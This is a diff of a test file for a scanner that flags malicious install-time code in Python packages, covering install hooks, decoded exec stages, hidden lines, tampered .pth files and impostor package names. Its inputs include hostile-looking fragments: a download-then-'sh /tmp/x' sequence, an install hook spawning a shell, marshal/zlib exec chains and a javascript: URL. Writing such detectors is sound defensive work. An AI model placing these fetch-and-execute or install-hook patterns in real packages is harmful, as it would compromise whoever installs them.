@@ -24,8 +24,14 @@ const summary = (findings: { check: string; level: string; path: string | null; 
 
 describe('synthetic sdists with published install-time patterns', () => {
   it('finds the cmdclass install hook running a base64-decoded stage, with file, line and inspector link', async () => {
-    const sdist = await syntheticSdist('synthetic-stealer', '1.0.0', { 'setup.py': INSTALL_HOOK_SETUP_PY, 'PKG-INFO': 'Name: synthetic-stealer\n' });
-    const { distribution, findings } = await scanDistribution(sdist, metaFor('synthetic-stealer-1.0.0.tar.gz', 'synthetic-stealer', '1.0.0'));
+    const sdist = await syntheticSdist('synthetic-stealer', '1.0.0', {
+      'setup.py': INSTALL_HOOK_SETUP_PY,
+      'PKG-INFO': 'Name: synthetic-stealer\n',
+    });
+    const { distribution, findings } = await scanDistribution(
+      sdist,
+      metaFor('synthetic-stealer-1.0.0.tar.gz', 'synthetic-stealer', '1.0.0'),
+    );
     const execLine = lineOf(INSTALL_HOOK_SETUP_PY, 'exec(base64');
     const classLine = lineOf(INSTALL_HOOK_SETUP_PY, 'class PostInstallCommand');
     expect(distribution).toMatchObject({ state: 'scanned', entryCount: 2, checkedPaths: ['synthetic-stealer-1.0.0/setup.py'] });
@@ -44,7 +50,10 @@ describe('synthetic sdists with published install-time patterns', () => {
   it('finds code hidden after hundreds of blanks on the setup() line (W4SP style)', async () => {
     const sdist = await syntheticSdist('synthetic-w4sp', '0.0.1', { 'setup.py': HIDDEN_LINE_SETUP_PY });
     const { findings } = await scanDistribution(sdist, metaFor('synthetic-w4sp-0.0.1.tar.gz', 'synthetic-w4sp', '0.0.1'));
-    expect(summary(findings)).toEqual(['caution obfuscated-line synthetic-w4sp-0.0.1/setup.py:3', 'danger decoded-exec synthetic-w4sp-0.0.1/setup.py:3']);
+    expect(summary(findings)).toEqual([
+      'caution obfuscated-line synthetic-w4sp-0.0.1/setup.py:3',
+      'danger decoded-exec synthetic-w4sp-0.0.1/setup.py:3',
+    ]);
     const hidden = findings.find((f) => f.check === 'obfuscated-line')!;
     // The excerpt is centred on the hidden code, not on the blanks, and stays within the limit.
     expect(hidden.excerpt).toContain("__import__('builtins').exec(");
@@ -52,15 +61,40 @@ describe('synthetic sdists with published install-time patterns', () => {
   });
 
   it('follows a decoded payload through a variable into exec, and marshal/zlib decoders', () => {
-    const code = ['import zlib, marshal', 'blob = zlib.decompress(DATA)', 'exec(marshal.loads(blob))', 'stage = codecs.decode(x, "rot13")', 'eval(stage)'].join('\n');
+    const code = [
+      'import zlib, marshal',
+      'blob = zlib.decompress(DATA)',
+      'exec(marshal.loads(blob))',
+      'stage = codecs.decode(x, "rot13")',
+      'eval(stage)',
+    ].join('\n');
     expect(summary(scanPython('setup.py', code))).toEqual(['danger decoded-exec setup.py:3', 'danger decoded-exec setup.py:5']);
   });
 
   it('reports network and process use at install as caution, inside an install hook as danger', () => {
-    const plain = ['import urllib.request', 'urllib.request.urlretrieve("https://example.invalid/x", "/tmp/x")', 'os.system("sh /tmp/x")'].join('\n');
-    expect(summary(scanPython('setup.py', plain))).toEqual(['caution network setup.py:1', 'caution network setup.py:2', 'caution process setup.py:3']);
-    const hooked = ['from setuptools.command.develop import develop as _develop', 'class D(_develop):', '    def run(self):', '        import requests', '        subprocess.Popen(["sh"])', 'setup(cmdclass={"develop": D})'].join('\n');
-    expect(summary(scanPython('setup.py', hooked))).toEqual(['danger install-hook setup.py:2', 'danger network setup.py:4', 'danger process setup.py:5']);
+    const plain = [
+      'import urllib.request',
+      'urllib.request.urlretrieve("https://example.invalid/x", "/tmp/x")',
+      'os.system("sh /tmp/x")',
+    ].join('\n');
+    expect(summary(scanPython('setup.py', plain))).toEqual([
+      'caution network setup.py:1',
+      'caution network setup.py:2',
+      'caution process setup.py:3',
+    ]);
+    const hooked = [
+      'from setuptools.command.develop import develop as _develop',
+      'class D(_develop):',
+      '    def run(self):',
+      '        import requests',
+      '        subprocess.Popen(["sh"])',
+      'setup(cmdclass={"develop": D})',
+    ].join('\n');
+    expect(summary(scanPython('setup.py', hooked))).toEqual([
+      'danger install-hook setup.py:2',
+      'danger network setup.py:4',
+      'danger process setup.py:5',
+    ]);
   });
 
   it('flags a long high-entropy string even without exec', () => {
@@ -128,7 +162,9 @@ describe('wheels: .pth files, scripts, shadowed names', () => {
     const { findings } = await scanDistribution(wheel, metaFor('zope.foo-1.0-py3-none-any.whl', 'zope.foo', '1.0'));
     expect(summary(findings)).toEqual(['info pth-file extra.pth:1', 'info pth-file zope.foo-1.0-py3.9-nspkg.pth:1']);
     // The same template with one more import is not setuptools' line any more.
-    const tampered = syntheticWheel({ 'zope.bar-1.0-nspkg.pth': nspkg.replace("has_mfs and __import__('importlib.machinery')", "__import__('zope_bar_hook')") });
+    const tampered = syntheticWheel({
+      'zope.bar-1.0-nspkg.pth': nspkg.replace("has_mfs and __import__('importlib.machinery')", "__import__('zope_bar_hook')"),
+    });
     const hostile = await scanDistribution(tampered, metaFor('zope.bar-1.0-py3-none-any.whl', 'zope.bar', '1.0'));
     expect(hostile.findings.filter((f) => f.check === 'pth-file').map((f) => f.level)).toEqual(['caution']);
   });
@@ -154,7 +190,10 @@ describe('wheels: .pth files, scripts, shadowed names', () => {
     const { findings } = await scanDistribution(impostor, metaFor('yaml_tools-1.0-py3-none-any.whl', 'yaml-tools', '1.0'));
     expect(summary(findings)).toEqual(['caution shadowed-package sitecustomize.py:null', 'caution shadowed-package yaml/__init__.py:null']);
     expect(findings.find((f) => f.path === 'yaml/__init__.py')!.detail).toMatch(/import name of pyyaml/);
-    const real = await scanDistribution(syntheticWheel({ 'yaml/__init__.py': '', '_yaml/__init__.py': '' }), metaFor('PyYAML-6.0-cp311-cp311-linux_x86_64.whl', 'PyYAML', '6.0'));
+    const real = await scanDistribution(
+      syntheticWheel({ 'yaml/__init__.py': '', '_yaml/__init__.py': '' }),
+      metaFor('PyYAML-6.0-cp311-cp311-linux_x86_64.whl', 'PyYAML', '6.0'),
+    );
     expect(real.findings).toEqual([]);
   });
 });
@@ -188,9 +227,9 @@ describe('hostile archives end in "not checked", never an exception', () => {
 
 describe('inspector links', () => {
   it('are built only for files.pythonhosted.org package URLs, with the name normalised', () => {
-    expect(inspectorFileUrl({ url: 'https://files.pythonhosted.org/packages/74/90/29/Foo_Bar-1.0.tar.gz', project: 'Foo_Bar', version: '1.0' })).toBe(
-      'https://inspector.pypi.io/project/foo-bar/1.0/packages/74/90/29/Foo_Bar-1.0.tar.gz/',
-    );
+    expect(
+      inspectorFileUrl({ url: 'https://files.pythonhosted.org/packages/74/90/29/Foo_Bar-1.0.tar.gz', project: 'Foo_Bar', version: '1.0' }),
+    ).toBe('https://inspector.pypi.io/project/foo-bar/1.0/packages/74/90/29/Foo_Bar-1.0.tar.gz/');
     expect(inspectorFileUrl({ url: 'https://evil.example/packages/x.tar.gz', project: 'x', version: '1' })).toBeNull();
     expect(inspectorFileUrl({ url: 'http://files.pythonhosted.org/packages/x.tar.gz', project: 'x', version: '1' })).toBeNull();
     expect(inspectorFileUrl({ url: 'javascript:alert(1)', project: 'x', version: '1' })).toBeNull();
